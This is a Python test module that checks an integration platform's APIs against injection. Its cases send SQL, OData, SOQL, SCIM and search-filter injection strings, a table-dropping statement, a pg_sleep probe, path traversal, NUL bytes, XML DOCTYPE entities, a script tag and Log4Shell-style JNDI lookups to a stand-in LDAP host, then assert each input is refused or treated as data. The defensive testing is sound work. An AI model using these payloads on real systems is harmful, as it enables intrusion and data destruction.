"""Texts that would be code if somebody put them into a statement: they arrive as data, or not at all."""

from __future__ import annotations

import json
from collections.abc import Callable
from urllib.parse import quote

from attacking import Answer, Attacker
from hostile_case import Case, Send, Watch

from servicekit.ids import mint

GROUP = "injection"
EXCEPTIONS, ONBOARDINGS = "operations/v1/exceptions", "project-onboarding/v1/onboardings"
PREVIEW = "invoice-release/v1/release-previews?cut_off=2026-12-01&contract_id="
ERP = "connection=business-central&legal_entity_code=DE01"


async def _tables(it: Attacker) -> object:
    return it.rows("select count(*) from information_schema.tables where table_schema = 'process'"), it.traces()


TABLES = Watch(what="every table is still there", look=_tables)


def _process(path: str) -> Send:
    async def send(it: Attacker) -> Answer:
        return await it.process("GET", path)

    return send


def _platform(capability: str, path: str) -> Send:
    async def send(it: Attacker) -> Answer:
        return await it.platform(capability, "GET", path)

    return send


def _finds_nothing(send: Send) -> Send:
    """An injected condition that is always true would find something."""

    async def sent(it: Attacker) -> Answer:
        answer = await send(it)
        assert {"items": [], "next": None} == answer.json()
        return answer

    return sent


def _matching(capability: str, path: str, number: str, email: str | None) -> Send:
    """A worker whom nothing knows is to be found again; nobody is."""

    async def send(it: Attacker) -> Answer:
        body = {"worker_id": mint("wrk"), "worker_number": number, "name": number, "email": email}
        answer = await it.platform(capability, "POST", path, json=body)
        assert ("unmatched", None) == (answer.json()["result"], answer.json()["matched_id"])
        return answer

    return send


def _data(name: str, sent: str, send: Send) -> Case:
    """Searched for as it stands, and not found."""
    return Case(
        name=name, group=GROUP, sent=f"{sent}: nothing found", status=200, send=_finds_nothing(send), unchanged=TABLES
    )


def _matched(name: str, sent: str, send: Send) -> Case:
    return Case(name=name, group=GROUP, sent=f"{sent}: nobody matches", status=200, send=send)


def _refused(name: str, sent: str, send: Send, status: int, code: str, pointer: str = "") -> Case:
    return Case(
        name=name, group=GROUP, sent=sent, status=status, code=code, send=send, pointer=pointer, unchanged=TABLES
    )


def _nul(name: str, sent: str, send: Send, pointer: str) -> Case:
    return _refused(name, f"NUL in {sent}", send, 400, "invalid_parameter", pointer)


async def _nul_in_a_reason(it: Attacker) -> Answer:
    case = (await it.process("GET", f"{EXCEPTIONS}?open_only=true&limit=1")).json()["items"][0]["id"]
    content = json.dumps({"reason": "fine\0not", "comment": "x"}).encode()
    headers = {"Content-Type": "application/json", "If-Match": "*"}
    return await it.process("PATCH", f"{EXCEPTIONS}/{case}", content=content, headers=headers)


async def _arrives_as_data(it: Attacker) -> Answer:
    """What the vendor was asked for is the text itself, in quotes that it cannot leave."""
    number = "X' or '1' eq '1"
    answer = await it.platform("erp", "GET", f"v1/project-shells?{ERP}&number={quote(number)}")
    every = await it.platform("erp", "GET", f"v1/project-shells?{ERP}&limit=1")
    assert [] == answer.json()["items"]
    assert 1 == len(every.json()["items"])
    return answer


def _headers(**headers: str) -> Send:
    """Headers that end up in logs and in answers."""

    async def send(it: Attacker) -> Answer:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        answer = await it.process("GET", EXCEPTIONS, headers=named)
        given = repr(answer.headers)
        assert not any(value in given for value in headers.values())
        return answer

    return send


def _searched(capability: str, path: str, text: str) -> Send:
    return _platform(capability, path + quote(text))


_Texts = tuple[tuple[str, str, Callable[[str], Send], str], ...]

FILTERS: _Texts = (
    (
        "sql-in-a-filter",
        "`' or 1=1 --` as a status, reaching SQL",
        lambda text: _process(f"{EXCEPTIONS}?status={quote(text)}"),
        "' or 1=1 --",
    ),
    (
        "two-statements",
        "`'; drop table run; --` as a status",
        lambda text: _process(f"{EXCEPTIONS}?status={quote(text)}"),
        "'; drop table run; --",
    ),
    (
        "sleep-in-a-filter",
        "`'||pg_sleep(9)||'` as an audit record's subject",
        lambda text: _process(f"operations/v1/audit-records?subject={quote(text)}"),
        "'||pg_sleep(9)||'",
    ),
    ("pattern-in-a-filter", "`%` as a run's id", lambda text: _process(f"{EXCEPTIONS}?run_id={quote(text)}"), "%"),
    (
        "sql-for-an-id",
        "`opp_' or ''='` as a deal's id in a filter",
        lambda text: _process(f"{ONBOARDINGS}?opportunity_id={quote(text)}"),
        "opp_' or ''='",
    ),
    (
        "odata-in-a-number",
        "`x') or (1 eq 1` as a project's number, reaching OData",
        lambda text: _searched("erp", f"v1/project-shells?{ERP}&number=", text),
        "x') or (1 eq 1",
    ),
    (
        "odata-in-a-customer",
        "`x' or '' eq '` as a customer's number, reaching OData",
        lambda text: _searched("erp", f"v1/customer-accounts?{ERP}&currency=EUR&customer_number=", text),
        "x' or '' eq '",
    ),
    (
        "odata-in-a-reference",
        "`AAAA' or '1' eq '1` as a journal's reference, reaching OData",
        lambda text: _searched("erp", f"v1/journals?{ERP}&reference=", text),
        "AAAA' or '1' eq '1",
    ),
    (
        "odata-in-a-receivable",
        "the same as a receivable's reference",
        lambda text: _searched("erp", f"v1/receivables?{ERP}&reference=", text),
        "AAAA' or '1' eq '1",
    ),
    (
        "odata-in-a-document",
        "the same as a ledger entry's document number",
        lambda text: _searched(
            "erp", "v1/legal-entities/DE01/ledger-entries?connection=business-central&document_number=", text
        ),
        "x' or '1' eq '1",
    ),
    (
        "search-in-a-project",
        "`x' OR active:'true` as a project's number, reaching the billing platform's search",
        lambda text: _searched("billing", "v1/billing-schedules?connection=stripe-de&project_number=", text),
        "x' OR active:'true",
    ),
    (
        "backslash-before-the-quote",
        "a backslash at the end of the same",
        lambda text: _searched("billing", "v1/billing-schedules?connection=stripe-de&project_number=", text),
        "x\\",
    ),
    (
        "parameter-in-a-parameter",
        "`x&include=users` as a contract's number, reaching the PSA",
        lambda text: _searched("psa", "v1/projects?connection=kantata&contract_number=", text),
        "x&include=users",
    ),
)

CASES = (
    *(_data(name, sent, made(text)) for name, sent, made, text in FILTERS),
    Case(
        name="odata-arrives-as-data",
        group=GROUP,
        sent="`X' or '1' eq '1` as a number, where without it there is a project",
        status=200,
        send=_arrives_as_data,
    ),
    _matched(
        "scim-filter",
        '`x" or userName pr or "` as a worker, reaching a SCIM filter',
        _matching("identity", "v1/account-matches?connection=scim", 'x" or userName pr or "', 'x" or "1" eq "1'),
    ),
    _matched(
        "scim-backslash",
        "a backslash before the quote, reaching a SCIM filter",
        _matching("identity", "v1/account-matches?connection=scim", "x\\", '\\"'),
    ),
    _matched(
        "entity-in-a-name",
        "`&x;` and a DOCTYPE as a worker's name",
        _matching("identity", "v1/account-matches?connection=scim", "<!DOCTYPE a>&x;", None),
    ),
    _matched(
        "psa-match",
        "`' or 1=1` as a worker, reaching the PSA",
        _matching("psa", "v1/resource-matches?connection=kantata", "' or 1=1", "x' or ''='"),
    ),
    _refused(
        "soql-for-an-id",
        "`opp_' or Name != '` as a deal's id: it never reaches SOQL",
        _platform("crm", f"v1/opportunities/{quote(chr(39) + ' or Name != ' + chr(39))}"),
        404,
        "not_found",
    ),
    _refused(
        "soql-in-a-moment",
        "SOQL behind a moment",
        _platform("crm", "v1/opportunities?connection=salesforce&updated_after=2026-01-01T00:00:00Z%20OR%20Name!=''"),
        400,
        "invalid_parameter",
        "query:updated_after",
    ),
    _refused(
        "xml-for-an-id",
        "a DOCTYPE as a worker's id: it never reaches SOAP",
        _platform("hr", "v1/workers/%3C!DOCTYPE%20a%3E"),
        404,
        "not_found",
    ),
    _refused(
        "sql-for-a-run",
        "`' or 1=1 --` as a run's id",
        _process(f"{ONBOARDINGS}/{quote(chr(39) + ' or 1=1 --')}"),
        404,
        "not_found",
    ),
    _refused(
        "path-for-a-contract",
        "`../customers` as the contract of a preview: no other path of the system layer is asked",
        _process(f"{PREVIEW}{quote('../customers', safe='')}"),
        404,
        "not_found",
    ),
    _refused(
        "unprintable-contract",
        "a contract of a preview that no path can hold",
        _process(f"{PREVIEW}%0F%F3%A0%99%86"),
        404,
        "not_found",
    ),
    _refused(
        "search-in-a-reference",
        "`x' OR metadata['a']:'b` as an invoice's reference",
        _platform("billing", f"v1/invoices?connection=stripe-de&reference={quote(chr(120) + chr(39) + ' OR a')}"),
        400,
        "invalid_parameter",
        "query:reference",
    ),
    _refused(
        "quote-in-a-dimension",
        "`x'` as a dimension",
        _platform("erp", "v1/legal-entities/DE01/dimension-values?connection=business-central&dimension=x'"),
        400,
        "invalid_parameter",
        "query:dimension",
    ),
    _refused(
        "quote-in-an-entity",
        "`DE01'` as a legal entity",
        _platform("erp", "v1/legal-entities/DE01'/tax-codes?connection=business-central"),
        404,
        "unknown_legal_entity",
    ),
    _refused(
        "other-connection",
        "another capability's connection",
        _platform("crm", "v1/opportunities?connection=kantata"),
        404,
        "unknown_connection",
    ),
    _nul("nul-in-a-filter", "a filter, reaching SQL", _process(f"{EXCEPTIONS}?status=%00"), "query:status"),
    _nul("nul-in-a-run", "a run's id in a filter", _process(f"{EXCEPTIONS}?run_id=a%00b"), "query:run_id"),
    _nul(
        "nul-in-a-subject",
        "an audit record's subject",
        _process("operations/v1/audit-records?subject=%00"),
        "query:subject",
    ),
    _nul("nul-in-a-state", "a run's state", _process(f"{ONBOARDINGS}?state=%00"), "query:state"),
    _nul(
        "nul-in-an-entity",
        "a legal entity's code",
        _process(f"{ONBOARDINGS}?legal_entity_code=%00"),
        "query:legal_entity_code",
    ),
    _nul(
        "nul-in-a-number",
        "a project's number at the ERP",
        _platform("erp", f"v1/project-shells?{ERP}&number=%00"),
        "query:number",
    ),
    _nul("nul-for-a-deal", "a deal's id at a system API", _platform("crm", "v1/opportunities/%00"), "path:"),
    _nul("nul-for-a-worker", "a worker's id at a system API", _platform("hr", "v1/workers/wrk_%00"), "path:"),
    _nul("nul-for-a-journal", "a journal's id at a system API", _platform("erp", "v1/journals/jrn_%00"), "path:"),
    _refused("nul-in-a-reason", "NUL in a person's reason", _nul_in_a_reason, 422, "invalid", "/reason"),
    Case(
        name="lookup-in-a-header",
        group=GROUP,
        sent="`${jndi:ldap://...}` in the headers that are logged",
        status=200,
        send=_headers(
            Syncline_Correlation_Id="${jndi:ldap://192.0.2.1/a}",
            Traceparent="${jndi:ldap://192.0.2.1/b}",
            User_Agent="${jndi:ldap://192.0.2.1/c}",
        ),
    ),
    Case(
        name="page-in-a-header",
        group=GROUP,
        sent="a script as the correlation id",
        status=200,
        send=_headers(Syncline_Correlation_Id="<script>alert(1)</script>"),
    ),
)
